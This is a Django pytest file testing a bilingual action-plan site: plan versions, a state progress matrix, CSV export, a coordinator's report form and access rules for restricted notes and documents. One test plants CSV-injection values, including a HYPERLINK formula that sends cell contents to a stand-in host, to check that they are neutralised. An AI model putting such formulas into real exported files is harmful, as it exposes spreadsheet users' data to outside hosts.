import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import translation

from actionplan.enums import NoteVisibility, ProgressStatus, RoundStatus
from actionplan.models import Action, ActionProgress, ProgressNote
from actionplan.services import plan_create_version
from tests.factories.actionplan import (
    ActionFactory,
    ActionProgressFactory,
    AreaFactory,
    EndorsedRoundFactory,
    PlanFactory,
    ProgressNoteFactory,
    ReportingRoundFactory,
)
from tests.factories.meetings import MeetingFactory
from tests.factories.membership import ParticipantStateFactory, StaffUserFactory

pytestmark = pytest.mark.django_db

SANDBOX = "default-src 'none'; sandbox"  # settings.FILE_CONTENT_SECURITY_POLICY, as nginx sends
D = datetime.date


def url(name, lang="ru", **kwargs):
    with translation.override(lang):
        return reverse(f"actionplan:{name}", kwargs=kwargs)


# --- The plan ---------------------------------------------------------------------------


@pytest.mark.parametrize(("lang", "area", "action"), [
    ("ru", "Управление границами", "Создать механизмы"),
    ("en", "Border management", "Set up mechanisms"),
])
def test_plan_page_shows_the_current_plan_in_each_language(client, plan, lang, area, action):
    response = client.get(url("plan", lang))

    content = response.content.decode()
    assert response.status_code == 200
    assert f"I. {area}" in content
    assert action in content


def test_plan_page_links_older_versions_and_they_stay_readable(client, plan):
    newer = plan_create_version(previous=plan, title_ru="План 2016", title_en="Plan 2016")
    Action.objects.filter(area__plan=newer, order=1, area__number=1).update(
        text_ru="Новое действие")

    current = client.get(url("plan")).content.decode()
    older = client.get(url("plan_version", version=1)).content.decode()

    assert "Новое действие" in current
    assert plan.get_absolute_url() in current
    assert "Создать механизмы" in older
    assert "Новое действие" not in older


def test_plan_page_of_an_unknown_version_is_404(client, plan):
    assert client.get(url("plan_version", version=9)).status_code == 404


def test_plan_page_without_any_plan_says_so(client):
    response = client.get(url("plan", "en"))

    assert "The action plan has not been published yet." in response.content.decode()


@pytest.mark.parametrize("areas", [1, 3])
def test_plan_page_query_count_does_not_grow_with_areas(
    client, django_assert_num_queries, areas
):
    plan = PlanFactory(version=1)
    for number in range(1, areas + 1):
        area = AreaFactory(plan=plan, number=number)
        ActionFactory(area=area, order=1)
        ActionFactory(area=area, order=2)
    client.get(url("plan"))  # warm the session and caches

    # plan (one query, adopted or not), areas + five prefetches,
    # sections + paragraphs, versions
    with django_assert_num_queries(9):
        client.get(url("plan"))


# --- The matrix -------------------------------------------------------------------------


def test_matrix_counts_match_the_hand_counted_fixture(endorsed):
    from actionplan.selectors import progress_matrix

    matrix = progress_matrix(reporting_round=endorsed)

    assert [s.name_en for s in matrix.states] == ["Kazakhstan", "Kyrgyzstan"]
    assert {s.name_en: [c for _v, _l, c in counts] for s, counts in matrix.total_rows} == {
        "Kazakhstan": [0, 1, 2, 0], "Kyrgyzstan": [0, 0, 1, 1]}
    assert matrix.overall["missing"] == 1
    assert [[[count for _v, _l, _s, count in per_state] for per_state in block.summary]
            for block in matrix.areas] == [
        [[0, 0, 2, 0], [0, 0, 1, 1]],  # area I: Kazakhstan, Kyrgyzstan
        [[0, 1, 0, 0], [0, 0, 0, 0]],  # area II
    ]
    assert [[c.status if c else None for c in row.cells]
            for block in matrix.areas for row in block.rows] == [
        ["done", "done"], ["done", "not_applicable"], ["in_progress", None]]


def test_progress_page_reads_without_colour(client, endorsed):
    content = client.get(url("progress", "en")).content.decode()

    assert '<td class="status status--done"><span aria-hidden="true">●</span> Done' in content
    assert '<span aria-hidden="true">?</span> No answer</td>' in content
    assert "Legend" in content


def test_progress_page_hides_a_round_not_endorsed_from_the_public(client, plan, kazakhstan):
    rr = ReportingRoundFactory(plan=plan, status=RoundStatus.CLOSED, closed_on=D(2024, 10, 1))
    ActionProgressFactory(round=rr, action=Action.objects.first(), state=kazakhstan)

    response = client.get(url("progress", "en"))

    assert "No reporting round has been endorsed" in response.content.decode()
    assert client.get(url("progress", "en") + f"?round={rr.pk}").status_code == 404


def test_progress_page_shows_a_round_not_endorsed_to_the_secretariat(client, plan):
    rr = ReportingRoundFactory(plan=plan)
    client.force_login(StaffUserFactory())

    response = client.get(url("progress", "en"))

    assert response.context["reporting_round"] == rr


def test_restricted_notes_stay_restricted(client, endorsed, kaz_coordinator):
    progress = ActionProgress.objects.filter(state__iso3="KAZ").first()
    ProgressNoteFactory(progress=progress, text="Открытая заметка",
                        visibility=NoteVisibility.PUBLIC)
    ProgressNoteFactory(progress=progress, text="Закрытая заметка",
                        visibility=NoteVisibility.PARTICIPANTS)

    public = client.get(url("progress")).content.decode()
    client.force_login(kaz_coordinator)
    participant = client.get(url("progress")).content.decode()

    assert ("Открытая заметка" in public, "Закрытая заметка" in public) == (True, False)
    assert ("Открытая заметка" in participant, "Закрытая заметка" in participant) == (True, True)


MARKER = ' <span class="badge badge--warn fallback-marker" lang="{}">{}</span>'
RUSSIAN_NOTE = '<p lang="ru">Принят закон о беженцах.</p>'
ENGLISH_NOTE = '<p lang="en">A law on refugees was adopted.</p>'


@pytest.mark.parametrize(
    ("lang", "marked", "unmarked"),
    [
        ("en", RUSSIAN_NOTE + MARKER.format("en", "in Russian"), ENGLISH_NOTE),
        ("ru", ENGLISH_NOTE + MARKER.format("ru", "на английском"), RUSSIAN_NOTE),
    ],
)
def test_progress_notes_carry_the_language_they_are_written_in(
        client, endorsed, lang, marked, unmarked):
    """A note is typed in one language: on a page in the other it is read
    out in its own (lang) and marked like any text shown in the other
    language (issue 24, item 14)."""
    progress = ActionProgress.objects.filter(state__iso3="KAZ").first()
    ProgressNoteFactory(progress=progress, text="Принят закон о беженцах.",
                        visibility=NoteVisibility.PUBLIC)
    ProgressNoteFactory(progress=progress, text="A law on refugees was adopted.",
                        visibility=NoteVisibility.PUBLIC)

    html = client.get(url("progress", lang)).content.decode()

    assert marked in html
    assert unmarked in html
    assert unmarked + " <span" not in html


def test_progress_csv_has_a_row_per_action_and_a_column_per_state(client, endorsed):
    response = client.get(url("progress_csv", "en"))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert rows[0] == ["Action", "Area", "Text", "Kazakhstan", "Kyrgyzstan"]
    assert [row[0] for row in rows[1:]] == ["I.1", "I.2", "II.1"]
    assert [row[3:] for row in rows[1:]] == [
        ["Done", "Done"], ["Done", "Not applicable"], ["In progress", ""]]


def test_progress_csv_neutralises_formula_cells(client, endorsed):
    """CSV injection (issue 22, item 3): an action's text or an area's title
    that a spreadsheet would read as a formula comes out prefixed with '."""
    formula = '=HYPERLINK("http://x/"&A1,"Click")'
    a1, a2, a3 = Action.objects.order_by("area__number", "order")
    Action.objects.filter(pk=a1.pk).update(text_en=formula, text_ru=formula)
    Action.objects.filter(pk=a2.pk).update(text_en="-2+3", text_ru="-2+3")
    Action.objects.filter(pk=a3.pk).update(text_en="\tcmd", text_ru="\rcmd")
    type(a1.area).objects.filter(pk=a1.area_id).update(
        title_en="@SUM(A1:A9)", title_ru="@SUM(A1:A9)")

    response = client.get(url("progress_csv", "en"))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert response["Content-Disposition"] == (
        f'attachment; filename="action-plan-progress-{endorsed.pk}.csv"')
    assert response["Content-Security-Policy"] == SANDBOX  # issue 22, item 10
    assert [row[1:3] for row in rows[1:]] == [
        ["'@SUM(A1:A9)", "'" + formula], ["'@SUM(A1:A9)", "'-2+3"], ["Procedures", "'\tcmd"]]


@pytest.mark.parametrize("states", [1, 3])
def test_progress_page_query_count_does_not_grow_with_states(
    client, django_assert_num_queries, plan, states
):
    rr = EndorsedRoundFactory(plan=plan)
    for _ in range(states):
        state = ParticipantStateFactory()
        for action in Action.objects.all():
            note_on = ActionProgressFactory(round=rr, action=action, state=state)
        ProgressNoteFactory(progress=note_on, visibility=NoteVisibility.PUBLIC)
    client.get(url("progress"))

    # the rounds (one read, for the choice and its options), matrix (states,
    # areas, actions, answers), notes and their documents, the reports
    with django_assert_num_queries(8):
        client.get(url("progress"))


# --- The coordinator's form ---------------------------------------------------------------


@pytest.fixture
def open_round(plan, kazakhstan):
    """Last year's endorsed round (Kazakhstan answered "in progress" for
    I.1) and this year's open one."""
    last = EndorsedRoundFactory(plan=plan, opened_on=D(2023, 8, 1),
                                meeting=MeetingFactory(start=D(2023, 10, 15)))
    ActionProgressFactory(round=last, action=Action.objects.get(area__number=1, order=1),
                          state=kazakhstan, status=ProgressStatus.IN_PROGRESS,
                          timeline="2023–2025")
    return ReportingRoundFactory(plan=plan, opened_on=D(2024, 8, 1))


def test_report_form_shows_last_rounds_answers(client, open_round, kaz_coordinator):
    client.force_login(kaz_coordinator)

    response = client.get(url("report", "en"))

    content = response.content.decode()
    assert "Last round: In progress; 2023–2025" in content
    form = response.context["form"]
    action = Action.objects.get(area__number=1, order=1)
    assert form[f"status_{action.pk}"].initial == ProgressStatus.IN_PROGRESS


def _post_data(form, **overrides):
    data = {}
    for name, _field in form.fields.items():
        value = form[name].initial
        if value is None:
            value = ""
        if isinstance(value, list):
            value = [o.pk for o in value]
        data[name] = value
    data.update(overrides)
    return data


def test_coordinator_saves_their_states_progress(client, open_round, kazakhstan,
                                                 kaz_coordinator):
    client.force_login(kaz_coordinator)
    form = client.get(url("report")).context["form"]
    action = Action.objects.get(area__number=2, order=1)

    response = client.post(url("report"), _post_data(
        form, **{f"status_{action.pk}": "done", f"note_{action.pk}": "Закон принят",
                 f"visibility_{action.pk}": "public"}))

    assert response.status_code == 302
    saved = ActionProgress.objects.get(round=open_round, action=action)
    assert (saved.state, saved.status) == (kazakhstan, ProgressStatus.DONE)
    assert ActionProgress.objects.filter(round=open_round).count() == 3
    assert list(ProgressNote.objects.values_list("text", flat=True)) == ["Закон принят"]


def test_coordinator_cannot_report_for_another_state_by_tampering(
    client, open_round, kyrgyzstan, kaz_coordinator
):
    client.force_login(kaz_coordinator)
    form = client.get(url("report")).context["form"]

    client.post(url("report"), _post_data(form, state=kyrgyzstan.pk, state_id=kyrgyzstan.pk))

    assert set(ActionProgress.objects.filter(round=open_round)
               .values_list("state__iso3", flat=True)) == {"KAZ"}


def test_report_form_of_another_state_by_url_is_404(client, open_round, kaz_coordinator):
    client.force_login(kaz_coordinator)

    assert client.get(url("report") + "kgz/").status_code == 404


def test_report_form_is_refused_to_who_coordinates_no_state(client, open_round):
    client.force_login(StaffUserFactory())

    assert client.get(url("report")).status_code == 403


def test_report_form_sends_the_public_to_sign_in(client, open_round):
    response = client.get(url("report"))

    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_report_form_without_an_open_round_says_so(client, plan, kaz_coordinator):
    client.force_login(kaz_coordinator)

    response = client.get(url("report", "en"))

    assert "No reporting round is open." in response.content.decode()


def test_sitemap_lists_the_plan_versions_and_the_progress_page_in_both_languages(client, plan):
    content = client.get("/sitemap-actionplan.xml").content.decode()

    for path in ("/ru/action-plan/v1/", "/en/action-plan/v1/", "/ru/action-plan/progress/"):
        assert f"{path}</loc>" in content


def test_note_documents_follow_the_archive_access_rule(client, endorsed, kaz_coordinator):
    from archive.enums import AccessLevel
    from tests.factories.archive import DocumentFactory

    note = ProgressNoteFactory(progress=ActionProgress.objects.first(),
                               visibility=NoteVisibility.PUBLIC)
    note.documents.set([
        DocumentFactory(title_ru="Открытый закон"),
        DocumentFactory(title_ru="Внутренняя справка", access=AccessLevel.PARTICIPANTS),
    ])

    public = client.get(url("progress")).content.decode()
    client.force_login(kaz_coordinator)
    participant = client.get(url("progress")).content.decode()

    assert ("Открытый закон" in public, "Внутренняя справка" in public) == (True, False)
    assert "Внутренняя справка" in participant


def test_coordinator_names_the_supporting_organisations(client, open_round, kaz_coordinator):
    from tests.factories.membership import OrganisationFactory

    iom = OrganisationFactory(name_ru="МОМ", name="МОМ")
    client.force_login(kaz_coordinator)
    form = client.get(url("report")).context["form"]
    action = Action.objects.get(area__number=1, order=2)

    client.post(url("report"), _post_data(form, **{f"organisations_{action.pk}": [iom.pk]}))

    saved = ActionProgress.objects.get(round=open_round, action=action)
    assert list(saved.supporting_organisations.all()) == [iom]


@pytest.mark.parametrize("actions", [1, 3])
def test_report_form_query_count_does_not_grow_with_actions(
    client, django_assert_num_queries, kazakhstan, kaz_coordinator, actions
):
    plan = PlanFactory(version=1)
    area = AreaFactory(plan=plan, number=1)
    for order in range(1, actions + 1):
        ActionFactory(area=area, order=order)
    ReportingRoundFactory(plan=plan)
    client.force_login(kaz_coordinator)
    client.get(url("report"))

    with django_assert_num_queries(9):
        client.get(url("report"))


def test_report_form_is_refused_to_a_pending_states_coordinator(client, open_round):
    from membership.enums import MembershipStatus
    from tests.factories.membership import (
        MembershipPeriodFactory,
        NationalCoordinatorFactory,
        UserFactory,
    )

    period = MembershipPeriodFactory(status=MembershipStatus.PENDING, start=D(2020, 1, 1),
                                     deadline=D(2099, 12, 31))
    user = UserFactory()
    NationalCoordinatorFactory(state=period.state, user=user, start=D(2020, 1, 1))
    client.force_login(user)

    assert client.get(url("report")).status_code == 403


# --- Supporting documents on the coordinator's form ----------------------------------------


@pytest.fixture
def archive_documents():
    from archive.enums import AccessLevel
    from tests.factories.archive import DocumentFactory

    return {
        "law": DocumentFactory(reference="KAZ/LAW/2024/1", slug="migration-law",
                               title_ru="Закон о миграции", title_en="Migration law"),
        "review": DocumentFactory(reference="", slug="national-review-2024",
                                  title_ru="Национальный обзор", title_en="National review"),
        "memo": DocumentFactory(reference="SU/MEMO/7", slug="internal-memo",
                                title_ru="Служебная записка", title_en="Internal memo",
                                access=AccessLevel.SECRETARIAT),
    }


@pytest.mark.parametrize("lang", ["ru", "en"])
def test_coordinator_attaches_archive_documents_to_a_note_by_reference(
    client, open_round, kaz_coordinator, archive_documents, lang
):
    client.force_login(kaz_coordinator)
    form = client.get(url("report", lang)).context["form"]
    action = Action.objects.get(area__number=2, order=1)

    response = client.post(url("report", lang), _post_data(form, **{
        f"note_{action.pk}": "Закон принят",
        f"documents_{action.pk}": "kaz/law/2024/1,\n/en/archive/national-review-2024/",
    }))

    assert response.status_code == 302
    note = ProgressNote.objects.get()
    assert sorted(note.documents.values_list("slug", flat=True)) == [
        "migration-law", "national-review-2024"]
    title = {"ru": "Закон о миграции", "en": "Migration law"}[lang]
    assert f"KAZ/LAW/2024/1 · {title}</a>" in client.get(url("report", lang)).content.decode()


@pytest.mark.parametrize(("lang", "message"), [
    ("ru", "В архиве нет доступных вам документов с условными обозначениями XX/1, SU/MEMO/7."),
    ("en", "No documents you may see in the archive have the references XX/1, SU/MEMO/7."),
])
def test_unknown_or_restricted_reference_is_named_and_the_input_kept(
    client, open_round, kaz_coordinator, archive_documents, lang, message
):
    client.force_login(kaz_coordinator)
    form = client.get(url("report", lang)).context["form"]
    action = Action.objects.get(area__number=2, order=1)

    response = client.post(url("report", lang), _post_data(form, **{
        f"status_{action.pk}": "done", f"timeline_{action.pk}": "2025",
        f"note_{action.pk}": "Закон принят",
        f"documents_{action.pk}": "KAZ/LAW/2024/1, XX/1\nSU/MEMO/7",
    }))

    assert response.status_code == 200
    content = response.content.decode()
    assert message in content
    assert f'<li><a href="#action-{action.pk}">II.1</a></li>' in content
    bound = response.context["form"]
    assert (bound[f"status_{action.pk}"].value(), bound[f"timeline_{action.pk}"].value(),
            bound[f"note_{action.pk}"].value(), bound[f"documents_{action.pk}"].value()) == (
        "done", "2025", "Закон принят", "KAZ/LAW/2024/1, XX/1\nSU/MEMO/7")
    assert "KAZ/LAW/2024/1, XX/1\nSU/MEMO/7</textarea>" in content
    assert (ActionProgress.objects.filter(round=open_round).count(),
            ProgressNote.objects.count()) == (0, 0)


def test_documents_without_a_note_ask_for_one(client, open_round, kaz_coordinator,
                                              archive_documents):
    client.force_login(kaz_coordinator)
    form = client.get(url("report", "en")).context["form"]
    action = Action.objects.get(area__number=2, order=1)

    response = client.post(url("report", "en"), _post_data(
        form, **{f"documents_{action.pk}": "KAZ/LAW/2024/1"}))

    assert response.status_code == 200
    assert "Write a note for the supporting documents to be attached to." in (
        response.content.decode())
    assert ProgressNote.objects.count() == 0


def test_secretariat_only_document_posted_directly_is_refused(
    client, open_round, kaz_coordinator, archive_documents
):
    client.force_login(kaz_coordinator)
    form = client.get(url("report", "en")).context["form"]
    action = Action.objects.get(area__number=2, order=1)
    memo = archive_documents["memo"]

    for typed in ("SU/MEMO/7", "internal-memo", str(memo.pk)):
        response = client.post(url("report", "en"), _post_data(form, **{
            f"note_{action.pk}": "Tampered", f"documents_{action.pk}": typed}))
        assert response.status_code == 200

    assert ProgressNote.objects.count() == 0


def test_attached_documents_show_on_the_progress_page_by_the_archive_rule(
    client, open_round, kaz_coordinator, archive_documents
):
    from archive.enums import AccessLevel
    from tests.factories.archive import DocumentFactory

    DocumentFactory(reference="KAZ/INT/1", title_ru="Внутренний отчёт",
                    access=AccessLevel.PARTICIPANTS)
    client.force_login(kaz_coordinator)
    form = client.get(url("report")).context["form"]
    action = Action.objects.get(area__number=2, order=1)
    client.post(url("report"), _post_data(form, **{
        f"note_{action.pk}": "Закон принят", f"visibility_{action.pk}": "public",
        f"documents_{action.pk}": "KAZ/LAW/2024/1; KAZ/INT/1"}))
    open_round.status, open_round.closed_on = RoundStatus.CLOSED, D(2024, 10, 1)
    open_round.endorsed, open_round.endorsed_on = True, D(2024, 10, 15)
    open_round.save()

    participant = client.get(url("progress") + f"?round={open_round.pk}").content.decode()
    client.logout()
    public = client.get(url("progress") + f"?round={open_round.pk}").content.decode()

    assert ("Закон о миграции" in participant, "Внутренний отчёт" in participant) == (
        True, True)
    assert ("Закон о миграции" in public, "Внутренний отчёт" in public) == (True, False)


@pytest.mark.parametrize("actions", [1, 3])
def test_report_form_looks_up_every_actions_documents_in_one_query(
    django_assert_num_queries, kaz_coordinator, archive_documents, actions
):
    from actionplan.forms import ProgressForm
    from membership.permissions import roles_of

    plan = PlanFactory(version=1)
    area = AreaFactory(plan=plan, number=1)
    for order in range(1, actions + 1):
        ActionFactory(area=area, order=order)
    action_list = list(Action.objects.select_related("area"))
    data = {}
    for action in action_list:
        data.update({f"status_{action.pk}": "in_progress", f"visibility_{action.pk}": "public",
                     f"note_{action.pk}": "Note",
                     f"documents_{action.pk}": "KAZ/LAW/2024/1, national-review-2024"})
    form = ProgressForm(data, actions=action_list, current={}, previous={},
                        user=kaz_coordinator)

    roles_of(kaz_coordinator)  # the user's roles are read once per request

    with django_assert_num_queries(1):
        assert form.is_valid()
    assert [len(entry.documents) for entry in form.entries()] == [2] * actions


@pytest.mark.parametrize("actions", [1, 3])
def test_report_form_query_count_with_notes_and_documents_does_not_grow_with_actions(
    client, django_assert_num_queries, kazakhstan, kaz_coordinator, archive_documents, actions
):
    plan = PlanFactory(version=1)
    area = AreaFactory(plan=plan, number=1)
    rr = ReportingRoundFactory(plan=plan)
    for order in range(1, actions + 1):
        progress = ActionProgressFactory(round=rr, action=ActionFactory(area=area, order=order),
                                         state=kazakhstan)
        note = ProgressNoteFactory(progress=progress)
        note.documents.set([archive_documents["law"], archive_documents["memo"]])
    client.force_login(kaz_coordinator)
    client.get(url("report"))

    with django_assert_num_queries(12):
        content = client.get(url("report")).content.decode()
    assert (content.count("Закон о миграции"), content.count("Служебная записка")) == (
        actions, 0)
